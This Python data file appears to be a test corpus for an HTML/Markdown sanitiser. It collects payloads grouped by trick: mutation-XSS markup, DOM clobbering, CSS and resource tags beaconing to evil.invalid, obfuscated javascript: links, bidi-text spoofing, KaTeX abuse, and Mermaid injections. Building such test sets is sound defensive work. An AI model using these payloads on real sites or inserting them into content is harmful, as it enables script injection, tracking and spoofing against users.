"""More of the same kind, by the trick: what sanitisers and parsers have been fooled with."""

ALARM = "window.pwned=1"
OUTSIDE = "https://evil.invalid"

MUTATION = [  # read once it is one tree, written and read again another
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={ALARM}&gt;'>",  # noqa: E501
    f"<svg><style>&lt;img src=x onerror={ALARM}&gt;</style></svg>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={ALARM}></annotation-xml></math>",  # noqa: E501
    f"<svg><desc><noembed></svg><img src=x onerror={ALARM}></noembed></desc>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={ALARM} src>'>",  # noqa: E501
    f"<select><iframe></select><img src=x onerror={ALARM}>",
    f"<table><td><select><style></table><img src=x onerror={ALARM}></style>",
    f"<xmp><p title='</xmp><img src=x onerror={ALARM}>'></xmp>",
    f"<noembed><p title='</noembed><img src=x onerror={ALARM}>'>",
    f"<textarea><p title='</textarea><img src=x onerror={ALARM}>'>",
    f"<title><p title='</title><img src=x onerror={ALARM}>'>",
    f"<plaintext><img src=x onerror={ALARM}>",
    f"<frameset><noframes></frameset><img src=x onerror={ALARM}>",
    f"<svg><foreignObject><math><mi><p><style><!--</style><img src='--><img src=x onerror={ALARM}>'>",  # noqa: E501
    f"<details><summary><svg></summary></details><style><a title='</style><img src=x onerror={ALARM}>'>",  # noqa: E501
    f"<ruby><rt><math><mtext></ruby><img src=x onerror={ALARM}>",
]
CLOBBERING = [  # names that would shadow what our script asks the document for
    "<form name=body><input name=parentNode><input name=nodeName></form>",
    "<img name=currentScript><img name=querySelector><a id=defaultView name=defaultView>",
    "<form id=message><input name=value><input name=form></form>",
    "<a id=bench></a><a id=gettext href=x:></a><a id=interpolate></a>",
    "<input name=__proto__><object name=hasOwnProperty></object>",
    "<iframe name=self srcdoc='<a id=location href=javascript:1>'></iframe>",
]
STYLE = [  # what reaches outside or over the page without a script
    f"<p style='background-image:url({OUTSIDE}/a)'>x</p>",
    f"<link rel=preload as=image href={OUTSIDE}/b><link rel=dns-prefetch href=//evil.invalid>",
    "<b style='position:fixed;inset:0;z-index:9999' class=veil>x</b>",
    f"<table background={OUTSIDE}/c><td background={OUTSIDE}/d bgcolor=red>x",
    f"<svg><image href={OUTSIDE}/e /><feImage href={OUTSIDE}/f /><use href={OUTSIDE}/g#x /></svg>",
    f"<svg><style>@font-face{{font-family:x;src:url({OUTSIDE}/h)}}</style><text font-family=x>a</text></svg>",  # noqa: E501
    f"<img srcset='{OUTSIDE}/i 1x' sizes=1px><picture><source srcset={OUTSIDE}/j></picture>",
    f"<input type=image src={OUTSIDE}/k formaction={OUTSIDE}/l>",
    f"<a ping={OUTSIDE}/m href={OUTSIDE}/n>x</a>",
    f"<script src={OUTSIDE}/o></script><script type=importmap>{{}}</script>",
    f"<body background={OUTSIDE}/p><track src={OUTSIDE}/q><bgsound src={OUTSIDE}/r>",
]
ADDRESSES = [
    "[a](&#106;avascript:window.pwned=1) [b](&#x6A&#x61vascript:window.pwned=1)",
    "[a](java&Tab;script&colon;window.pwned=1) [b](\\javascript:window.pwned=1)",
    "[a](<javascript:window.pwned=1>) [b]( javascript:window.pwned=1 'x')",
    "<javascript:window.pwned=1> <data:text/html,x> <blob:https://x/1> <filesystem:https://x/1>",
    "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) ![b](blob:https://x.example/1)",
    "![a](data:text/html,<script>window.pwned=1</script>) ![b](//evil.invalid/z.png)",
    "[a]: data:text/html,x\n[b]: //evil.invalid\n\n[a] [b] ![a] ![b]",
    "[a](//evil.invalid) [b](/accounts/logout/) [c](?next=x) [d](#message) [e](../../admin/)",
    "[a](view-source:https://x) [b](chrome://settings) [c](intent://x#Intent;end) [d](tel:1)",
    "[a](https://user:pass@evil.invalid@good.example/%00%0d%0aSet-Cookie:x=1)",
    "https://good.example\u202e/moc.live http://evil.invalid\u2066/good",
]
DIRECTION = [
    "`if (admin\u202e \u2066// check\u2069 \u2066) {`",
    "```c\n/* \u202e } \u2066if (isAdmin)\u2069 \u2066 begin */\n```",
    "| \u202eabc | \u2067def |\n|---|---|\n| \u202dghi\u202c | x |",
    "[\u202egood.example](https://evil.invalid/\u202e)",
    "$$\\text{\u202eabc}$$ <b>\u2068x\u2069</b> # \u202etitle",
]
MATHS = [
    "$$\\htmlData{x=1}{a}\\htmlId{message}{b}\\htmlClass{composer}{c}$$",
    '\\(\\unicode{x3c}script\\unicode{x3e}\\) \\[\\char"3C img src=x onerror=1\\]',
    "$$\\begin{array}{c}" + "{" * 300 + "}" * 300 + "\\end{array}$$",
    "$$\\rule{99999em}{99999em}$$ $$\\kern{-9999em}x$$ $$\\def\\x{\\x\\x}\\x$$",
]
PARSERS = [
    "<a href='x'\n\n>b</a>\n\n<img src=x\n\nonerror=window.pwned=1>",
    "- <svg>\n  - </svg><img src=x onerror=window.pwned=1>\n\n1. `<b>` <b\n\n>",
    "> <details open>\n> <script>window.pwned=1</script>\n\n</details><script>window.pwned=1</script>",  # noqa: E501
    "<b><i></b><u></i></u></b></i></u></div></main></body></html><script>window.pwned=1</script>",
    "\x00<scr\x00ipt>window.pwned=1</scr\x00ipt> <\x00img src=x onerror=window.pwned=1>",
    "<\uff53cript>window.pwned=1</\uff53cript> \uff1cimg src=x onerror=window.pwned=1\uff1e",
    '```mermaid\nclassDiagram\nclass A["<img src=x onerror=window.pwned=1>"]\n'
    'click A call eval("window.pwned=1")\nlink A "javascript:window.pwned=1"\n```',
    "```mermaid\n---\nconfig:\n  securityLevel: loose\n  themeCSS: '@import url(https://evil.invalid)'\n---\n"
    "graph TD\nA[x]-->B\n```",
    "```mermaid\nflowchart TD\nA@{ img: 'https://evil.invalid/i.png', w: 60, h: 60 }\n```",
    "```mermaid\ngraph TD\nA-->B\nstyle A fill:url(https://evil.invalid/f),position:fixed\n"
    "classDef z background-image:url(https://evil.invalid/z)\nclass A z\n```",
    "```mermaid\nmindmap\n  root((<img src=x onerror=window.pwned=1>))\n"
    "    <iframe srcdoc='<script>parent.window.pwned=1</script>'>\n```",
    '```mermaid\nC4Context\nPerson(a, "x", "y", $link="javascript:window.pwned=1", '
    '$sprite="https://evil.invalid/s")\n```',
    "```mermaid\ngantt\nsection x\na :a, 2026-01-01, 1d\nclick a call eval('window.pwned=1')\n```",
    "```../../accounts/logout/\nx\n```\n\n```__proto__\nx\n```\n\n```constructor\ny\n```",
    "<div><template shadowrootmode=open><script>window.pwned=1</script></template></div>",
    "<dialog open>x</dialog><b popover id=p>y</b><button popovertarget=p>z</button>",
    "$$\\color{red;position:fixed}x\\colorbox{url(https://evil.invalid/c)}{y}$$",
    "~~~~html\n</code></pre><img src=x onerror=window.pwned=1>\n~~~\n~~~~",
    "<ol start='1\" onclick=window.pwned=1'><li value=javascript:1>x</ol>",
]

MORE = [*MUTATION, *CLOBBERING, *STYLE, *ADDRESSES, *DIRECTION, *MATHS, *PARSERS]
